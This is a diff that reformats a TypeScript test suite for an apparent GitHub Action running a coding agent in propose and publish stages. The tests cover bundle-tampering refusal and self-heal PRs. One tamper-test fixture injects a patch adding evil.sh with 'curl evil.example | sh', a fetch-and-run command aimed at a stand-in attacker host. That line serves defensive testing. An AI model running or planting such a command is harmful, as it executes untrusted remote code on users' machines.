@@ -29,13 +29,26 @@ async function runs(kind: 'agent' | 'gate'): Promise<number> {
   return text.split('\n').filter(Boolean).length
 }
 
-const event = () => issueLabeledEvent({ ...scenario.target, issueNumber: ISSUE, label: 'agent', sender: 'alice', title: 'Add a farewell', body: 'Please add farewell().' })
+const event = () =>
+  issueLabeledEvent({
+    ...scenario.target,
+    issueNumber: ISSUE,
+    label: 'agent',
+    sender: 'alice',
+    title: 'Add a farewell',
+    body: 'Please add farewell().'
+  })
 
 /** The inputs both jobs would share in a workflow: the same agent and gate are set in each. */
 const sharedInputs = () => ({ 'agent-command': `sh ${path.join(tools, 'agent.sh')}`, gate: `sh ${path.join(tools, 'gate.sh')}` })
 
 function git(cwd: string, ...args: string[]): string {
-  return execFileSync('git', args, { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir } })
+  return execFileSync('git', args, {
+    cwd,
+    encoding: 'utf8',
+    stdio: ['ignore', 'pipe', 'pipe'],
+    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir }
+  })
 }
 
 /** A fresh checkout of origin's default branch, the way actions/checkout makes one in a new job. */
@@ -49,7 +62,13 @@ async function freshCheckout(s: Scenario = scenario): Promise<{ workspaceDir: st
   git(workspaceDir, 'remote', 'add', 'origin', s.fixture.originDir)
   git(workspaceDir, 'fetch', '--quiet', '--no-tags', '--depth=1', 'origin', '+refs/heads/main:refs/remotes/origin/main')
   git(workspaceDir, 'checkout', '--quiet', '--force', '-B', 'main', 'refs/remotes/origin/main')
-  git(workspaceDir, 'config', '--local', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${s.fake.token}`).toString('base64')}`)
+  git(
+    workspaceDir,
+    'config',
+    '--local',
+    'http.https://github.com/.extraheader',
+    `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${s.fake.token}`).toString('base64')}`
+  )
   return { workspaceDir, runnerTemp }
 }
 
@@ -112,7 +131,12 @@ beforeAll(async () => {
   await fs.writeFile(path.join(tools, 'gate.sh'), `echo run >> ${path.join(markers, 'gate')}\ntest -f src/farewell.js\n`)
   baseSha = (await scenario.fixture.originSha('main')) as string
 
-  proposeRun = await scenario.run({ eventName: 'issues', event: event(), inputs: { ...sharedInputs(), stage: 'propose' }, timeoutMs: 30_000 })
+  proposeRun = await scenario.run({
+    eventName: 'issues',
+    event: event(),
+    inputs: { ...sharedInputs(), stage: 'propose' },
+    timeoutMs: 30_000
+  })
   bundleDir = proposeRun.outputs['bundle-path']
 }, 60_000)
 
@@ -123,7 +147,14 @@ afterAll(async () => {
 describe('stage: propose', () => {
   test('runs the agent and the gate, writes a bundle, and makes no write request and no push', async () => {
     expect(proposeRun.exitCode).toBe(0)
-    expect(proposeRun.outputs).toMatchObject({ result: 'proposed', branch: BRANCH, attempts: '1', 'pr-number': '', 'pr-url': '', 'artifact-name': '' })
+    expect(proposeRun.outputs).toMatchObject({
+      result: 'proposed',
+      branch: BRANCH,
+      attempts: '1',
+      'pr-number': '',
+      'pr-url': '',
+      'artifact-name': ''
+    })
     expect(await runs('agent')).toBe(1)
     expect(await runs('gate')).toBe(1)
 
@@ -165,7 +196,12 @@ describe('stage: propose', () => {
 describe('stage: propose refuses a bundle-path inside the checkout', () => {
   test('before the agent runs: putting the tree back would sweep the bundle away', async () => {
     const agentRuns = await runs('agent')
-    const run = await scenario.run({ eventName: 'issues', event: event(), inputs: { ...sharedInputs(), stage: 'propose', 'bundle-path': 'bundle' }, timeoutMs: 30_000 })
+    const run = await scenario.run({
+      eventName: 'issues',
+      event: event(),
+      inputs: { ...sharedInputs(), stage: 'propose', 'bundle-path': 'bundle' },
+      timeoutMs: 30_000
+    })
     expect(run.exitCode).toBe(1)
     expect(run.commands.filter((c) => c.command === 'error').map((c) => c.message)).toEqual([
       expect.stringContaining("Input 'bundle-path'")
@@ -179,7 +215,11 @@ describe('stage: publish refuses a tampered bundle, with a clear error, pushing 
   test.each<[string, (dir: string, manifest: Record<string, unknown>) => Promise<void>, RegExp]>([
     [
       'a patch edited after its digest was written',
-      (dir) => fs.appendFile(path.join(dir, 'change.patch'), 'diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n'),
+      (dir) =>
+        fs.appendFile(
+          path.join(dir, 'change.patch'),
+          'diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n'
+        ),
       /The bundle's patch does not match its digest: .* It was changed after the propose job wrote it/
     ],
     [
@@ -266,7 +306,14 @@ describe('two-job self-heal: the failing commit is fetched by id, and the heal P
   const GOOD = 'export const add = (a, b) => a + b\n'
   const heal = { scenario: undefined as unknown as Scenario, failingSha: '', markers: '' }
   const healEvent = () =>
-    workflowRunFailedEvent({ ...heal.scenario.target, headBranch: FAILING, headSha: heal.failingSha, runId: 555, actor: 'octocat', workflowName: 'CI' })
+    workflowRunFailedEvent({
+      ...heal.scenario.target,
+      headBranch: FAILING,
+      headSha: heal.failingSha,
+      runId: 555,
+      actor: 'octocat',
+      workflowName: 'CI'
+    })
   const healInputs = () => ({
     'agent-command': `sh ${path.join(heal.markers, 'agent.sh')}`,
     gate: `sh ${path.join(heal.markers, 'gate.sh')}`
@@ -277,7 +324,10 @@ describe('two-job self-heal: the failing commit is fetched by id, and the heal P
   beforeAll(async () => {
     const runsSeed = [{ id: 555, headBranch: FAILING, headSha: 'placeholder', actor: 'octocat' }]
     heal.scenario = await startScenario({
-      files: { 'src/add.js': GOOD, 'test.mjs': "import { add } from './src/add.js'\nif (add(2, 3) !== 5) { console.error('add is wrong'); process.exit(1) }\n" },
+      files: {
+        'src/add.js': GOOD,
+        'test.mjs': "import { add } from './src/add.js'\nif (add(2, 3) !== 5) { console.error('add is wrong'); process.exit(1) }\n"
+      },
       branches: { [FAILING]: { 'src/add.js': GOOD.replace('a + b', 'a - b') } },
       fake: {
         permissions: { octocat: 'write' },
@@ -290,7 +340,10 @@ describe('two-job self-heal: the failing commit is fetched by id, and the heal P
     runsSeed[0].headSha = heal.failingSha
     heal.markers = path.join(heal.scenario.fixture.root, 'heal-tools')
     await fs.mkdir(heal.markers)
-    await fs.writeFile(path.join(heal.markers, 'agent.sh'), `echo run >> ${path.join(heal.markers, 'agent')}\nprintf 'export const add = (a, b) => a + b\\n' > src/add.js\n`)
+    await fs.writeFile(
+      path.join(heal.markers, 'agent.sh'),
+      `echo run >> ${path.join(heal.markers, 'agent')}\nprintf 'export const add = (a, b) => a + b\\n' > src/add.js\n`
+    )
     await fs.writeFile(path.join(heal.markers, 'gate.sh'), `echo run >> ${path.join(heal.markers, 'gate')}\nnode test.mjs\n`)
   }, 30_000)
 
@@ -300,13 +353,21 @@ describe('two-job self-heal: the failing commit is fetched by id, and the heal P
 
   test('propose reproduces and fixes with no write; publish, in a checkout of main, opens the heal PR into the failing branch', async () => {
     const s = heal.scenario
-    const proposed = await s.run({ eventName: 'workflow_run', event: healEvent(), inputs: { ...healInputs(), stage: 'propose' }, timeoutMs: 30_000 })
+    const proposed = await s.run({
+      eventName: 'workflow_run',
+      event: healEvent(),
+      inputs: { ...healInputs(), stage: 'propose' },
+      timeoutMs: 30_000
+    })
     expect(proposed.exitCode).toBe(0)
     expect(proposed.outputs).toMatchObject({ result: 'proposed', branch: `agent/heal/${FAILING}`, attempts: '1' })
     expect(s.fake.writeRequests()).toEqual([])
     expect(await s.fixture.originBranches()).toEqual([FAILING, 'main'])
     expect([await count('agent'), await count('gate')]).toEqual([1, 2])
-    const manifest = JSON.parse(await fs.readFile(path.join(proposed.outputs['bundle-path'], 'manifest.json'), 'utf8')) as Record<string, unknown>
+    const manifest = JSON.parse(await fs.readFile(path.join(proposed.outputs['bundle-path'], 'manifest.json'), 'utf8')) as Record<
+      string,
+      unknown
+    >
     expect(manifest).toMatchObject({
       job: 'self-heal',
       task: { kind: 'run', id: 555, branch: FAILING, failingSteps: [{ job: 'test', step: 'Run tests' }] },
